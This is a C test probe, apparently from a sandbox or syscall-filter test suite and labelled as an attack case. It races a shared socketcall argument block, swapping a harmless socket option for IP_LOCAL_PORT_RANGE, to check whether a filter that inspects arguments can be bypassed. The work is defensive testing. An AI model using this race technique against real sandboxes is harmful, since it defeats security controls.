// kind: attack
// arch: i386
// A harmless option for the look, IP_LOCAL_PORT_RANGE for the kernel.
#include "probe.h"

enum { HARMLESS = 1 }; /* IP_TOS */

int main(void)
{
	struct { uint32_t value; volatile long block[5]; } *b = shared(sizeof *b);
	b->value = RANGE(41005, 41005);
	if (child() == 0)
		for (;;) {
			b->block[2] = HARMLESS;
			b->block[2] = IP_LOCAL_PORT_RANGE;
		}
	union addr a = loopback(AF_INET, 9);
	/* The kernel's own choice falls on that port too, about once in a run. */
	int hits = 0;
	FOR_A_WHILE {
		int fd = sock(AF_INET, SOCK_DGRAM, 0);
		b->block[0] = fd;
		b->block[1] = IPPROTO_IP;
		b->block[3] = (long)&b->value;
		b->block[4] = sizeof b->value;
		syscall(SYS_socketcall, 14, b->block);
		MUST(sendto(fd, "", 1, 0, &a.any, sizeof a.in));
		if (port_of(fd) == 41005 && ++hits == 10)
			BROKEN("sendto bound to port 41005");
		close(fd);
	}
	_exit(0);
}
